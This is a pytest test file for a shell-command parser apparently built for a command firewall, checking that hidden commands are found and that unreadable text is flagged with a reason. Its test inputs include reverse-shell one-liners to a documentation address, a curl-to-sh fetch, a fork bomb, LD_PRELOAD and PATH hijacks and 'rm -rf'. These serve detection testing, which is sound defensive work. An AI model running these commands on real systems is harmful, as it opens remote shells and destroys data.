"""Shell text to commands."""

import json
import time
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from firewall.commands import Reading, read_shell

BYPASSES = [
    json.loads(line)
    for line in Path(__file__).with_name("shell_bypasses.jsonl").read_text().splitlines()
]


def names(reading: Reading) -> list[str]:
    """Programs in the order they were found; "?" for one that only running can tell."""
    found = [command.words[0] or "?" for command in reading.commands if command.words]
    return [name.rpartition("/")[2] for name in found]


@pytest.mark.parametrize("case", BYPASSES, ids=lambda case: case["id"])
def test_every_hidden_command_is_found_or_opaque(case: dict[str, list[str] | str | None]) -> None:
    reading = read_shell(str(case["command"]))
    assert not any("failed" in opaque.why for opaque in reading.opaque)
    assert set(case["expect_inner"] or ()) <= set(names(reading)) or reading.opaque


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("ls\n\\rm -rf x", ["ls", "rm"]),
        ("echo `a` `b`", ["a", "b", "echo"]),
        ("coproc id", ["id"]),
        ("time -p id", ["id"]),
        ("cat | time A=1 id", ["cat", "time", "id"]),
        ("echo ${a:=`id`}", ["id", "echo"]),
        ("cat <<-E\n\t`id`\n\tE\nls", ["id", "cat", "ls"]),
        ("[[ -v a[$(id)] ]]", ["id"]),
        ("test -v 'a[$(id)]'", ["test", "id"]),
        ("echo $[ $(id) + 1 ]", ["id", "echo"]),
        ("a=s; b=sh; $a$b host", ["ssh"]),
        ("bash -c 'sh -c \"id\"'", ["bash", "sh", "id"]),
        ("echo aWQ= | base64 -d | sh", ["echo", "base64", "sh", "id"]),
        ("echo id > x; sh ./x", ["echo", "sh", "x", "id"]),
        ('f() { "$@"; }; f id', ["f", "id"]),
        ('a=(ls "x y"); a+=(z); "${a[@]}"', ["ls"]),
        ('a=(); "${a[@]}" id', ["id"]),
        ('a=id; "$a"', ["id"]),
        ("a=(id ls); $a", ["id"]),
        ("cat <<'E' > s\nid\nE\nbash s", ["cat", "bash", "s", "id"]),
    ],
)
def test_commands_are_found_in_order(text: str, found: list[str]) -> None:
    reading = read_shell(text)
    assert names(reading) == found
    assert not reading.opaque


@pytest.mark.parametrize(
    ("text", "why"),
    [
        ("$x", "which program runs"),
        ("/usr/bin/i?", "which program runs"),
        ('a=($x); "${a[@]}"', "which program runs"),
        ("bash -i 5<>/dev/tcp/192.0.2.1/1 <&5", "reads its commands from"),
        ('a=(ls); eval "$x"; "${a[@]}"', "which program runs"),
        ('a=(ls); true && a=(id); "${a[@]}"', "which program runs"),
        ("curl -s http://x | sh", "reads its commands from"),
        ('eval "$x"', "the text that eval runs"),
        ("LD_PRELOAD=./x.so ls", "LD_PRELOAD"),
        ("PATH=/tmp:$PATH ls", "anyone may write"),
        ("echo 'abc", "no closing '"),
        ("id )", "a command is missing"),
        ("id\0ls", "a zero byte"),
        ("( " * 2000, "nested too deeply"),
        ("id;" * 100_000, "too long"),
        ("id;" * 20_000, "takes too long"),
    ],
)
def test_what_cannot_be_read_says_why(text: str, why: str) -> None:
    assert any(why in opaque.why for opaque in read_shell(text).opaque)


def test_a_text_that_every_shell_refuses_runs_nothing() -> None:
    reading = read_shell("<Ctrl x><Ctrl s>")
    assert reading == Reading()


@pytest.mark.parametrize(
    "text",
    [
        "IFS= read -r line < file; echo $line", "while IFS=, read -r a b; do echo $a; done < f",
        "IFS=$'\\n'; for f in $(ls); do echo $f; done", "OLD=$IFS; IFS=:; echo $PATH; IFS=$OLD",
        "find . -print0 | while IFS= read -r -d '' f; do rm $f; done", "time A=1 make", "IFS=x ls",
    ],
)  # fmt: skip
def test_other_blanks_are_understood(text: str) -> None:
    assert not read_shell(text).opaque


@pytest.mark.parametrize(
    "text",
    [
        'eval "$(ssh-agent -s)"', "eval `ssh-agent`", 'eval "$(/opt/brew shellenv 2>/dev/null)"',
        ". <(kubectl completion bash)", 'eval "$(conda shell.bash hook)" && conda activate x',
    ],
)  # fmt: skip
def test_a_program_may_print_code_of_its_own(text: str) -> None:
    assert not read_shell(text.replace("/opt/brew", "/opt/bin/brew")).opaque


@pytest.mark.parametrize(
    "text",
    [
        'ssh-agent() { echo nc; }; eval "$(ssh-agent)"', 'A=b eval "$(x)"',
        'eval "$(nc completion)"', 'export PYENV_ROOT=\'$(nc)\'; eval "$(pyenv init -)"',
        'echo x > ssh-agent; eval "$(./ssh-agent)"', 'eval "$(ssh-agent -s; curl x)"',
        'eval "$(ssh-agent $x)"', 'PATH=a eval "$(ssh-agent)"; $y', 'eval "$(A=b ssh-agent)"',
        'x=ls; eval "$(ssh-agent)"; $x', 'eval "$(ssh-agent | sed s/a/b/)"', 'eval "a$(ssh-agent)"',
        'cp x ssh-agent; eval "$(./ssh-agent)"', 'PATH=a; eval "$(ssh-agent)"',
    ],
)  # fmt: skip
def test_what_another_program_prints_is_not_understood(text: str) -> None:
    assert read_shell(text).opaque


@pytest.mark.parametrize(
    "change",
    [
        "IFS=x", "export IFS=x", "IFS=$y", "read IFS", "for IFS in x; do :; done", ": ${IFS:=x}",
        "if y; then IFS=x; fi", "IFS=x :", "printf -v IFS x", "mapfile IFS", "declare IFS=x",
    ],
)  # fmt: skip
def test_a_value_is_not_understood_where_other_blanks_may_split_it(change: str) -> None:
    for text in (f"v=sshxa; {change}; $v", f"set -- sshxa; {change}; $*"):
        assert any("which program runs" in each.why for each in read_shell(text).opaque), text
        assert not read_shell(text.replace(change, "y")).opaque


@pytest.mark.parametrize(
    ("text", "directory"),
    [("cd /a && ls", "/a"), ("cd b; ls", "/home/b"), ("cd $x; ls", ""), ("env -C /c ls", "/c")],
)
def test_the_directory_is_followed_where_it_is_literal(text: str, directory: str) -> None:
    assert read_shell(text, "/home").commands[-1].directory == directory


@pytest.mark.parametrize(
    "text",
    [
        "bash -i >& /dev/tcp/192.0.2.1/80 0>&1",
        "exec 5<>/dev/tcp/192.0.2.1/80; sh <&5 >&5",
        "rm f; mkfifo f; cat f | sh -i 2>&1 | nc 192.0.2.1 80 > f",
    ],
)
def test_a_shell_tied_to_a_connection_is_a_reverse_shell(text: str) -> None:
    intents = [intent for command in read_shell(text).commands for intent in command.intents]
    assert any(i.name == "reverse-shell" and "192.0.2.1" in i.target for i in intents)


def test_redirections_are_reads_and_writes() -> None:
    (command,) = read_shell("sort < a > b").commands
    assert (command.reads, command.writes) == (("a",), ("b",))


@pytest.mark.parametrize(
    "text",
    [
        "$(" * 5000,
        "((" * 2000,
        '"$(' * 3000,
        "`" * 9999,
        "cat " + " ".join(f"<<E{i}" for i in range(3000)),
        "".join(f"cat <<E{i}\nx\nE{i}\n" for i in range(3000)),
        "a=xxxxxxxxxx;" + "a=$a$a$a$a$a$a$a$a;" * 50 + "$a",
        "".join(f"f{i}() {{ f{i + 1}; f{i + 1}; }};" for i in range(60)) + "f0",
        ":(){ :|:& };:",
        "for a in 1 2 3 4 5 6 7 8; do " * 12 + "id" + "; done" * 12,
        "eval " * 3000 + "id",
        "sudo " * 10_000 + "id",
        "echo " + "{a,b}" * 2000,
        "cat <<E\n" + "a\\\n" * 20_000,
        "echo x >> f;" * 3000 + "sh f",
        "".join(f"echo x > f{i}; sh f{i};" for i in range(1500)),
        "".join(f"cp f{i} f{i + 1};" for i in range(1500)) + "f1500",
        "".join(f"cp {a}{i} {b}{i + 1};" for i in range(99) for a in "fg" for b in "fg") + "f99",
        "cat > f.py <<E\n" + "system('a" * 3000 + "\nE\n" + "python f.py;" * 2000,
        "cat > a.py <<E\n" + "run('a', " * 3000 + "\nE\n" + "pytest;" * 4000,
        "cat > Makefile <<'E'\nX=a\n" + "X+=$(X)$(X)\n" * 2000 + "a:\n\t$(X)\nE\n" + "make;" * 900,
        "cat > Makefile <<'E'\n"
        + "".join(f"X{i}=$(X{i + 1})$(X{i + 1})\n" for i in range(19))
        + "X19=a\na:\n\t$(X0)\nE\nmake",
        "cat > Dockerfile <<'E'\n" + "RUN a <<E" * 3000 + "\nE\ndocker build .",
        "cat > f <<'E'\nsh f; sh f\nE\nsh f",
    ],
)
def test_hostile_texts_end_soon(text: str) -> None:
    began = time.perf_counter()
    reading = read_shell(text)
    assert time.perf_counter() - began < 5  # seconds; an exponential reading would take hours
    assert not any("failed" in opaque.why for opaque in reading.opaque)


@given(st.text(alphabet="$(){}[]<>|&;`'\"\\\n \t#=!*~aif:-E0/", max_size=80))
def test_no_text_makes_reading_fail(text: str) -> None:
    assert not any("failed" in opaque.why for opaque in read_shell(text).opaque)


@given(st.binary(max_size=200))
def test_no_bytes_make_reading_fail(data: bytes) -> None:
    assert not any("failed" in opaque.why for opaque in read_shell(data.decode("latin-1")).opaque)


COMMANDS = st.sampled_from(["alpha", "beta -x", "gamma 'a b'", "\\delta", "'epsilon'", "A=1 zeta"])
WRAPS = st.sampled_from(
    [
        "true; ( {} )", "{{ {}; }}", "if {}; then :; fi", "echo $({})", 'echo "$({})"',
        "echo ${{x:-$({})}}",
        "cat <({})", "while {}; do :; done", "case x in x) {};; esac", "f() {{ {}; }}", "! {}",
        "time {}", "cat <<E\n$({})\nE\n", "{} | cat", "cat | {}", "true && {}", "{} &", "x=$({})",
        "a[$({})]=1", "for i in $({}); do :; done", "echo $(( $({}) + 1 ))", "{} > f", "ls\n{}",
    ]
)  # fmt: skip


@given(COMMANDS, st.lists(WRAPS, max_size=6))
def test_a_command_is_found_however_it_is_wrapped(command: str, wraps: list[str]) -> None:
    text = command
    for wrap in wraps:
        text = wrap.format(text)
    reading = read_shell(text)
    name = command.removeprefix("A=1 ").split()[0].strip("\\'")
    assert name in names(reading) or reading.opaque
